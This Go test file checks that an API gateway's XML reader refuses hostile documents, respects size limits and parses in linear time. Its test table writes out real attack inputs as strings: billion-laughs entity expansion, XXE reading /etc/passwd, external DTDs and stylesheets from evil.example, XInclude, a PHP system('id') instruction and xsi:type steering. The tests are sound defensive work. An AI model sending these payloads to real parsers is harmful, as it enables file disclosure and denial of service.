package markup

import (
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-api/gatehouse/contract/schema"
	"github.com/gatehouse-api/gatehouse/internal/testdata"
)

// Documents that have been used against readers of XML, and what those take
// differently. None passes, whatever the policies.
func TestHostile(t *testing.T) {
	d := reader(t, `
T:
  type: object
  properties:
    a: {type: string}
    n: {type: integer}
    id: {type: string, xml: {attribute: true}}
    o: {type: object}
    l: {type: array, xml: {wrapped: true}, items: {type: string, xml: {name: i}}}
`)
	laughs := "<!DOCTYPE T [<!ENTITY a \"ha\">" + strings.Repeat(`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">`, 10) + "]><T><a>&b;</a></T>"
	utf16 := func(s string, bom string) string {
		var b strings.Builder
		b.WriteString(bom)
		for _, c := range []byte(s) {
			b.WriteString(string([]byte{c, 0}))
		}
		return b.String()
	}
	const xsi = ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" `
	rows := []struct {
		name, text string
		why        reason
	}{
		{"billion-laughs", laughs, doctype},
		{"external-entity", `<!DOCTYPE T [<!ENTITY x SYSTEM "file:///etc/passwd">]><T><a>&x;</a></T>`, doctype},
		{"parameter-entity", `<!DOCTYPE T [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><T/>`, doctype},
		{"external-subset", `<?xml version="1.0"?><!DOCTYPE T SYSTEM "http://evil.example/x.dtd"><T/>`, doctype},
		{"default-attributes", `<!DOCTYPE T [<!ATTLIST T id CDATA "admin">]><T/>`, doctype},
		{"doctype-after-comment", `<!-- --><!DOCTYPE T><T/>`, doctype},
		{"doctype-inside", `<T><!DOCTYPE T></T>`, doctype},
		{"doctype-after", `<T/><!DOCTYPE T>`, doctype},
		{"doctype-in-text", `<T><a><!DOCTYPE T></a></T>`, doctype},
		{"entity-declaration", `<!ENTITY x "y"><T/>`, badMarkup},
		{"undefined-entity", `<T><a>&x;</a></T>`, badReference},
		{"entity-of-html", `<T><a>&nbsp;</a></T>`, badReference},
		{"entity-in-attribute", `<T id="&x;"/>`, badReference},
		{"entity-without-end", `<T><a>&lt</a></T>`, badReference},
		{"entity-by-case", `<T><a>&LT;</a></T>`, badReference},
		{"ampersand", `<T><a>a & b</a></T>`, badReference},
		{"ampersand-at-end", `<T><a>&</a></T>`, badReference},
		{"reference-to-nul", `<T><a>&#0;</a></T>`, badReference},
		{"reference-to-control", `<T><a>&#x1F;</a></T>`, badReference},
		{"reference-to-surrogate", `<T><a>&#xD800;&#xDC00;</a></T>`, badReference},
		{"reference-to-no-character", `<T><a>&#xFFFE;</a></T>`, badReference},
		{"reference-too-large", `<T><a>&#x110000;</a></T>`, badReference},
		{"reference-that-overflows", `<T><a>&#4294967361;</a></T>`, badReference},
		{"reference-too-long", `<T><a>&#00000000065;</a></T>`, badReference},
		{"reference-of-capital-x", `<T><a>&#X41;</a></T>`, badReference},
		{"reference-of-nothing", `<T><a>&#;</a></T>`, badReference},
		{"reference-of-no-hex", `<T><a>&#x;</a></T>`, badReference},
		{"reference-with-sign", `<T><a>&#+65;</a></T>`, badReference},
		{"reference-in-object", `<T>&#32;</T>`, strayText},
		{"instruction", `<?php system("id") ?><T/>`, instruction},
		{"stylesheet", `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?><T/>`, instruction},
		{"instruction-inside", `<T><?x?></T>`, instruction},
		{"instruction-in-text", `<T><a>x<?x?>y</a></T>`, instruction},
		{"instruction-after", `<T/><?x?>`, instruction},
		{"late-declaration", ` <?xml version="1.0"?><T/>`, instruction},
		{"declaration-twice", `<?xml version="1.0"?><?xml version="1.0"?><T/>`, instruction},
		{"declaration-without-version", `<?xml encoding="UTF-8"?><T/>`, badDeclaration},
		{"declaration-empty", `<?xml ?><T/>`, badDeclaration},
		{"declaration-of-1.1", `<?xml version="1.1"?><T/>`, badDeclaration},
		{"declaration-of-utf-7", `<?xml version="1.0" encoding="UTF-7"?><T><a>+ADw-x+AD4-</a></T>`, badDeclaration},
		{"declaration-of-utf-16", `<?xml version="1.0" encoding="UTF-16"?><T/>`, badDeclaration},
		{"declaration-of-latin-1", `<?xml version="1.0" encoding="ISO-8859-1"?><T/>`, badDeclaration},
		{"declaration-in-disorder", `<?xml version="1.0" standalone="yes" encoding="UTF-8"?><T/>`, badDeclaration},
		{"declaration-with-more", `<?xml version="1.0" x="y"?><T/>`, badDeclaration},
		{"declaration-without-blank", `<?xml version="1.0"encoding="UTF-8"?><T/>`, badDeclaration},
		{"declaration-with-odd-quotes", `<?xml version="1.0'?><T/>`, badDeclaration},
		{"declaration-without-end", `<?xml version="1.0"><T/>`, badDeclaration},
		{"byte-order-mark", "\xef\xbb\xbf<T/>", badCharacter},
		{"utf-16-le", utf16("<T/>", "\xff\xfe"), badCharacter},
		{"utf-16-without-mark", utf16("<T/>", ""), badCharacter},
		{"utf-8-overlong", "<T><a>\xc0\xbc</a></T>", badCharacter},
		{"utf-8-surrogate", "<T><a>\xed\xa0\x80</a></T>", badCharacter},
		{"utf-8-cut", "<T><a>\xe2\x82</a></T>", badCharacter},
		{"nul", "<T><a>\x00</a></T>", badCharacter},
		{"control", "<T><a>\x1b</a></T>", badCharacter},
		{"control-in-comment", "<!-- \x01 --><T/>", badCharacter},
		{"no-character", "<T><a>\xef\xbf\xbe</a></T>", badCharacter},
		{"cdata-end-in-text", `<T><a>x]]>y</a></T>`, badMarkup},
		{"cdata-beside-text", `<T><a>x<![CDATA[y]]></a></T>`, splitText},
		{"cdata-before-text", `<T><a><![CDATA[x]]>y</a></T>`, splitText},
		{"cdata-twice", `<T><a><![CDATA[x]]]]><![CDATA[>]]></a></T>`, splitText},
		{"cdata-without-end", `<T><a><![CDATA[x]]</a></T>`, badMarkup},
		{"cdata-by-case", `<T><a><![cdata[x]]></a></T>`, badMarkup},
		{"cdata-in-object", `<T><![CDATA[ ]]></T>`, strayText},
		{"cdata-around-the-root", `<![CDATA[<T/>]]>`, strayText},
		{"comment-in-text", `<T><a>admin<!-- -->x</a></T>`, splitText},
		{"comment-alone-in-text", `<T><a><!-- --></a></T>`, splitText},
		{"comment-with-dashes", `<!-- a -- b --><T/>`, badComment},
		{"comment-that-ends-with-three", `<!-- a ---><T/>`, badComment},
		{"comment-without-end", `<T/><!-- a`, badComment},
		{"comment-of-html", `<!--><T/>`, badComment},
		{"attribute-with-less", `<T id="<"/>`, badAttribute},
		{"attribute-without-quotes", `<T id=x/>`, badAttribute},
		{"attribute-without-value", `<T id/>`, badAttribute},
		{"attribute-without-end", `<T id="x/>`, badAttribute},
		{"attribute-with-line-end", "<T id=\"a\nb\"/>", badAttribute},
		{"attribute-with-tab", "<T id=\"a\tb\"/>", badAttribute},
		{"attribute-twice", `<T id="a" id="b"/>`, repeatedAttribute},
		{"attribute-twice-by-namespace", `<T xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="2"/>`, repeatedAttribute},
		{"attributes-without-blank", `<T id="a"x="b"/>`, badMarkup},
		{"attribute-in-end-tag", `<T></T id="a">`, badEnd},
		{"namespace-twice", `<T xmlns:a="urn:x" xmlns:a="urn:y"/>`, repeatedAttribute},
		{"unbound-prefix", `<x:T/>`, unboundPrefix},
		{"unbound-attribute", `<T x:id="1"/>`, unboundPrefix},
		{"prefix-out-of-scope", `<T><o xmlns:p="urn:p"/><p:a/></T>`, unboundPrefix},
		{"prefix-unbound-again", `<T xmlns:p="urn:p"><o xmlns:p=""/></T>`, badNamespace},
		{"prefix-xml-taken", `<T xmlns:xml="urn:x"/>`, badNamespace},
		{"prefix-for-xml", `<T xmlns:x="http://www.w3.org/XML/1998/namespace"/>`, badNamespace},
		{"default-is-xml", `<T xmlns="http://www.w3.org/XML/1998/namespace"/>`, badNamespace},
		{"prefix-xmlns-taken", `<T xmlns:xmlns="urn:x"/>`, badNamespace},
		{"prefix-for-xmlns", `<T xmlns:x="http://www.w3.org/2000/xmlns/"/>`, badNamespace},
		{"element-of-xmlns", `<xmlns:T/>`, unboundPrefix},
		{"namespace-by-reference", `<T xmlns:x="urn:&#120;"/>`, badNamespace},
		{"namespace-too-long", `<T xmlns:x="urn:` + strings.Repeat("x", maxNamespace) + `"/>`, longName},
		{"two-colons", `<a:b:c/>`, badMarkup},
		{"colon-first", `<:T/>`, badName},
		{"colon-last", `<T:/>`, badName},
		{"name-of-digit", `<1/>`, badName},
		{"name-with-space", `< T/>`, badName},
		{"name-too-long", `<` + strings.Repeat("x", maxName+1) + `/>`, longName},
		{"name-of-no-letter", "<\u00d7/>", badName},
		{"xsi-nil", `<T` + xsi + `><a xsi:nil="true"/></T>`, steering},
		{"xsi-type", `<T` + xsi + ` xsi:type="Admin"/>`, steering},
		{"xsi-location", `<T` + xsi + ` xsi:schemaLocation="urn:x http://evil.example/x.xsd"/>`, steering},
		{"xsi-by-other-prefix", `<T xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:nil="1"/>`, steering},
		{"xsi-in-list", `<T` + xsi + `><l xsi:nil="true"/></T>`, steering},
		{"xsi-in-undeclared", `<T` + xsi + `><o><x xsi:type="y"/></o></T>`, steering},
		{"xinclude", `<T><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></T>`, steering},
		{"xinclude-in-list", `<T><l><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x"/></l></T>`, steering},
		{"xinclude-in-text", `<T><a><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x"/></a></T>`, noElements},
		{"nothing", ``, badMarkup},
		{"blank", "  \n", badMarkup},
		{"text", `hello`, badMarkup},
		{"json", `{"a":"b"}`, badMarkup},
		{"two-roots", `<T/><T/>`, badMarkup},
		{"text-after", `<T/>x`, badMarkup},
		{"end-alone", `</T>`, badMarkup},
		{"without-end", `<T>`, badMarkup},
		{"without-end-tag", `<T><a>x</a>`, badMarkup},
		{"cut-in-tag", `<T><a`, badMarkup},
		{"cut-in-text", `<T><a>x`, badMarkup},
		{"cut-after-less", `<T><`, badName},
		{"crossed", `<T><a></T></a>`, badEnd},
		{"end-by-case", `<T></t>`, badEnd},
		{"end-longer", `<T></T2>`, badEnd},
		{"end-by-other-prefix", `<a:T xmlns:a="" xmlns:b=""></b:T>`, badNamespace},
		{"end-open", `<T></T`, badEnd},
		{"slash-apart", `<T / >`, badName},
		{"declared-twice-in-case", `<T><a>x</a><A>y</A></T>`, nearName},
		{"foreign-twin", `<T><a>x</a><e:a xmlns:e="urn:evil">y</e:a></T>`, nearName},
		{"foreign-twin-in-list", `<T><l><i>x</i><e:i xmlns:e="urn:evil">y</e:i></l></T>`, nearName},
		{"attribute-as-child", `<T id="x"><id>y</id></T>`, nearName},
		{"child-as-attribute", `<T a="y"><a>x</a></T>`, nearName},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			for policy := range schema.Allow + 1 {
				st := State{Undeclared: policy, Misplaced: policy}
				if d.Read(&st, []byte(r.text)) {
					t.Fatalf("accepted by policy %d: %s", policy, st.JSON())
				}
				if st.reason != r.why {
					t.Errorf("refused by policy %d for %q, want %q", policy, st.Fault().Want, reasons[r.why].want)
				}
			}
		})
	}
}

// Each bound holds, and what is within passes.
func TestBounds(t *testing.T) {
	d := reader(t, `T: {type: object}`)
	repeat := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	number := func(i int) string { return string(rune('a'+i/26)) + string(rune('a'+i%26)) }
	rows := []struct {
		name string
		make func(n int) string
		most int
		why  reason
	}{
		{"depth", func(n int) string { return strings.Repeat("<T>", n) + strings.Repeat("</T>", n) }, maxDepth, tooDeep},
		{"attributes", func(n int) string {
			return "<T" + repeat(n, func(i int) string { return " " + number(i) + `=""` }) + "/>"
		}, maxAttributes, tooManyAttributes},
		{"namespaces", func(n int) string {
			return repeat(n, func(i int) string { return "<T xmlns:" + number(i) + `="urn:x">` }) + strings.Repeat("</T>", n)
		}, maxBindings, tooDeep},
		{"namespaces-of-two-elements", func(n int) string {
			return "<T" + repeat(40, func(i int) string { return " xmlns:" + number(i) + `="urn:x"` }) + "><x" +
				repeat(n-40, func(i int) string { return " xmlns:" + number(i) + `="urn:x"` }) + "/></T>"
		}, maxBindings, tooManyNamespaces},
		{"name", func(n int) string { return "<T><" + strings.Repeat("x", n) + "/></T>" }, maxName, longName},
		{"name-of-namespace", func(n int) string { return `<T xmlns:x="` + strings.Repeat("x", n) + `"/>` }, maxNamespace, longName},
		{"undeclared-names", func(n int) string {
			return "<T>" + repeat(n, func(i int) string { return "<" + number(i) + "/>" }) + "</T>"
		}, maxStrange, tooManyStrange},
		{"reference", func(n int) string { return "<T><x>&#" + strings.Repeat("0", n-3) + "65;</x></T>" }, maxReference, badReference},
	}
	var st State
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			if !d.Read(&st, []byte(r.make(r.most))) {
				t.Errorf("%d are refused: %s", r.most, st.Fault().Want)
			}
			if d.Read(&st, []byte(r.make(r.most+1))) || st.reason != r.why {
				t.Errorf("%d: refused for %d, want %d", r.most+1, st.reason, r.why)
			}
		})
	}
}

// The work is linear: 16 times the bytes take some 16 times as long, whatever
// they are.
func TestHostileTime(t *testing.T) {
	d := reader(t, `
T:
  type: object
  properties:
    a: {type: string}
    l: {type: array, items: {type: string, xml: {name: i}}}
    o: {type: object, additionalProperties: true}
    m: {type: object, additionalProperties: {type: string}}
`)
	many := func(unit string) func(int) string {
		return func(n int) string { return strings.Repeat(unit, n/len(unit)) }
	}
	long := strings.Repeat("x", maxName-2)
	wide := strings.Repeat("x", maxNamespace-8)
	var attributes, names, bindings, twins, twinAttributes strings.Builder
	for i := range maxAttributes - 1 {
		n := string(rune('a'+i/26)) + string(rune('a'+i%26))
		attributes.WriteString(" " + n + `=""`)
		names.WriteString("<" + long + n + "/>")
		bindings.WriteString(" xmlns:" + n + `="urn:x"`)
		twins.WriteString(" xmlns:" + n + `="` + wide + n + `"`)
		twinAttributes.WriteString(" " + n + `:z=""`)
	}
	rows := []struct {
		name, before, after string
		body                func(int) string
	}{
		{"text", "<T><a>", "</a></T>", many("hello ")},
		{"references", "<T><a>", "</a></T>", many("&lt;")},
		{"brackets", "<T><a>", "</a></T>", many("]]")},
		{"line-ends", "<T><a>", "</a></T>", many("\r\n")},
		{"cdata", "<T><a><![CDATA[", "]]></a></T>", many("]]")},
		{"items", "<T>", "</T>", many("<i/>")},
		{"comments", "<T>", "</T>", many("<!---->")},
		{"blanks", "<T>", "</T>", many(" ")},
		{"undeclared", "<T><o>", "</o></T>", many("<b/>")},
		{"undeclared-in-map", "<T><m>", "</m></T>", many("<b/>")},
		{"long-names", "<T><o>", "</o></T>", many(names.String())},
		{"attributes", "<T><o>", "</o></T>", many("<b" + attributes.String() + "/>")},
		{"foreign", `<T xmlns:p="` + wide + `" ><o>`, "</o></T>", many("<p:b/>")},
		{"prefixes", "<T" + bindings.String() + "><o>", "</o></T>", many("<aa:b/>")},
		{"attributes-of-long-namespaces", "<T" + twins.String() + "><o>", "</o></T>", many("<b" + twinAttributes.String() + "/>")},
		{"open-ends", "<T>", "", many("<a")},
		{"quotes", "<T>", "", many(`<b c="`)},
		{"wide-text", "<T><a>", "</a></T>", many("\u00e9\u4e2d")},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			st := State{Undeclared: schema.Drop}
			took := func(n int) time.Duration {
				text := []byte(r.before + r.body(n) + r.after)
				best := time.Hour
				for range 4 {
					start := testdata.Work(t)
					d.Read(&st, text)
					best = min(best, testdata.Work(t)-start)
				}
				return best
			}
			small, large := took(32<<10), took(512<<10)
			quadratic := func() bool { return large > 48*small+2*time.Millisecond }
			for tries := 0; quadratic() && tries < 4; tries++ { // the machine may have been busy
				small, large = took(32<<10), took(512<<10)
			}
			if quadratic() {
				t.Errorf("32 KiB take %v, 512 KiB %v", small, large)
			}
			if large > 512*time.Millisecond {
				t.Errorf("512 KiB take %v", large)
			}
		})
	}
}
